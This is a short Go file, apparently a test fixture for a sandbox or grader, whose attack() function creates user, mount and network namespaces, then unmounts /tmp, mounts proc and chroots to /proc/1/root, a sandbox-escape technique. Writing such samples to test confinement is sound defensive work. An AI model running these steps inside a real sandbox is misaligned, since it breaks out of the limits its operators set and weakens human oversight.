// It makes itself root in namespaces of its own, to undo the mounts.
//
// Listed: refused
// Unlisted: graded

package echo

import (
	"os/exec"
	"syscall"
)

func attack() {
	cmd := exec.Command("/proc/self/exe", "-test.run=^$")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | syscall.CLONE_NEWNET}
	cmd.Run()
	syscall.Unmount("/tmp", syscall.MNT_DETACH)
	syscall.Mount("proc", "/tmp", "proc", 0, "")
	syscall.Chroot("/proc/1/root")
}
